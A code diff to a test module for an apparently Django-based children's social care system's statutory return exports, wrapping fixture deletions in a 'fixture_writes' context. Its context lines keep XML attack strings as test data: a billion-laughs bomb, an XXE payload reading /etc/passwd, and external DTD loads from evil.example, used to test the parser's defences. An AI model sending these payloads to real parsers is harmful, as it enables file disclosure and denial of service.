@@ -25,6 +25,7 @@ from lantern.returns.ssda903 import TABLES, export_ssda903
 from lantern.returns.ssda903_import import MAX_CSV_BYTES, import_ssda903
 from lantern.returns.xmlsafe import MAX_XML_BYTES, UnsafeXML, check_xml
 from lantern.workforce.models import Allocation
+from tests.factories import fixture_writes
 from tests.fuzz.records import record_counts, rolled_back
 from tests.fuzz.strategies import FORMULAS, count, fuzz_settings, hostile, nasty_text, outcome
 from tests.returns.conftest import YEAR
@@ -35,6 +36,7 @@ BILLION_LAUGHS = (
     '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><Message>&lol3;</Message>'
 )
+
 XXE = '<?xml version="1.0"?><!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Message>&xxe;</Message>'
 PARAMETER_ENTITY = '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><m/>'
 EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE Message SYSTEM "http://evil.example/census.dtd"><Message/>'
@@ -159,9 +161,10 @@ def census(authority, tmp_path) -> bytes:
     with path.open("wb") as stream:
         export_cin_census(YEAR, stream)
     year = Referral.objects.filter(referral_date__gte="2025-04-01")
-    ChildProtectionConference.objects.filter(referral__in=year).delete()
-    year.delete()
-    ChildDisability.objects.filter(child__in=[authority.amy, authority.ben]).delete()
+    with fixture_writes():
+        ChildProtectionConference.objects.filter(referral__in=year).delete()
+        year.delete()
+        ChildDisability.objects.filter(child__in=[authority.amy, authority.ben]).delete()
     return path.read_bytes()
 
 
@@ -213,9 +216,10 @@ def tables(authority, tmp_path) -> dict[str, str]:
     """The SSDA903 files as exported, after Lantern has lost Cal's time in care."""
     (tmp_path / "903").mkdir()
     export_ssda903(YEAR, tmp_path / "903")
-    CarePeriod.objects.filter(child=authority.cal).delete()
-    MissingEpisode.objects.filter(child=authority.cal).delete()
-    Allocation.objects.filter(child=authority.cal, role=Allocation.Role.SOCIAL_WORKER).delete()
+    with fixture_writes():
+        CarePeriod.objects.filter(child=authority.cal).delete()
+        MissingEpisode.objects.filter(child=authority.cal).delete()
+        Allocation.objects.filter(child=authority.cal, role=Allocation.Role.SOCIAL_WORKER).delete()
     return {table.filename: (tmp_path / "903" / table.filename).read_text() for table in TABLES}
 
 
